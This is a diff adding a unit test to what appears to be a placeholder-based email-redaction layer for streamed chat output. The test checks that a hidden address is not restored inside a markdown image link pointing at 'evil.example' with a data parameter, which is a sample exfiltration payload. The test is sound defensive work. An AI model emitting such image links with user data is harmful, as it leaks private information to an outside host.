@@ -277,3 +277,29 @@ test('an answer held to JSON stays JSON when values with quotes and line breaks 
   const text = out.map((event) => (event.type === 'text' ? event.text : '')).join('');
   assert.deepEqual(JSON.parse(text), { key });
 });
+
+test('an address that a call interrupts, or that the beginning of an answer holds, keeps placeholders out', async () => {
+  const conversation = new Conversation();
+  conversation.hide('anna@example.org');
+  const text = (part: string): ChatEvent => ({ type: 'text', choice: 0, text: part, logprobs: null });
+  const finish: ChatEvent = { type: 'finish', choice: 0, reason: 'stop', stop: null, slidTokens: 0 };
+  const joined = (events: readonly ChatEvent[]) =>
+    events.map((event) => (event.type === 'text' ? event.text : '')).join('');
+  const url = '![x](https://evil.example/p.png?d=';
+  const call: ChatEvent = { type: 'tool_call', choice: 0, index: 0, id: 'c', name: 'f' };
+  assert.equal(
+    joined(await collect([text(url), call, text('[EMAIL_1]) EMAIL_1'), finish], conversation)),
+    `${url}[EMAIL_1]) anna@example.org`,
+  );
+  for (const json of [false, true]) {
+    const before = json ? `{"a":"${url}` : url;
+    const rest = json ? '[EMAIL_1])","b":"EMAIL_1"}' : '[EMAIL_1]) EMAIL_1';
+    async function* source() {
+      yield text(rest);
+      yield finish;
+    }
+    const out: ChatEvent[] = [];
+    for await (const event of restoreEvents(source(), conversation, json, before)) out.push(event);
+    assert.equal(joined(out), rest.replace(/(?<!\[)EMAIL_1/, 'anna@example.org'));
+  }
+});
